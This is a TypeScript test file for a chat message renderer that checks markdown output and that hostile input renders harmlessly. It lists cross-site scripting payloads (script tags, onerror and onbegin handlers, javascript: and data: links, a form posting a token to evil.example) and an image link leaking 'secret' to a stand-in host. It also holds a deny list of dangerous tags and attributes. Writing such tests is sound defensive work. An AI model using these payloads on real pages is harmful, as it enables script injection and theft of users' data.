import fc from "fast-check";
import { fromHtml } from "hast-util-from-html";
import { toString } from "hast-util-to-string";
import { visit } from "unist-util-visit";
import { expect, test } from "vitest";
import { renderMessage } from "./message.ts";

test("tables, lists, code and emphasis are rendered", () => {
  const html = renderMessage("**Bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```");
  expect(html).toContain("<strong>Bold</strong>");
  expect(html).toContain("<td>1</td>");
  expect(html).toContain('<code class="language-python">print(1 &#x3C; 2)');
});

test("a picture becomes a link, so that nothing is fetched unasked", () => {
  const html = renderMessage("![chart](https://evil.example/?q=secret)");
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://evil.example/?q=secret"');
});

test("tags are shown as text and no word is lost", () => {
  const said = "Use <b>bold</b> here.\n\n<div>\nIn a block\n</div>\n\n- <script>x</script> item";
  const text = toString(fromHtml(renderMessage(said), { fragment: true }));
  for (const piece of ["<b>bold</b>", "<div>", "In a block", "<script>x</script> item"]) expect(text).toContain(piece);
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  '<a href="https://x" onclick="alert(1)">x</a>',
  "<svg><animate onbegin=alert(1)>",
  "![a](javascript:alert(1))",
  "<form action=https://evil.example><input name=token></form>",
  "<style>*{display:none}</style>",
  `${"> ".repeat(5000)}deep`,
])("%s does nothing", (payload) => {
  assertHarmless(renderMessage(payload));
});

test("any text is rendered without markup that acts", () => {
  const piece = fc.constantFrom(
    "<",
    ">",
    "`",
    "![",
    "](",
    "javascript:",
    "<img onerror=",
    "\n",
    "a",
    "|",
    "*",
    "&#106;",
    '"',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => assertHarmless(renderMessage(pieces.join("")))),
  );
});

function assertHarmless(html: string): void {
  visit(fromHtml(html, { fragment: true }), "element", ({ tagName, properties }) => {
    expect(["script", "style", "iframe", "img", "form", "svg", "object", "embed"]).not.toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).not.toMatch(/^on/i);
      if (name === "href") expect(String(value)).toMatch(/^(https?:|mailto:|[^:]*$|[#/?])/i);
    }
  });
}
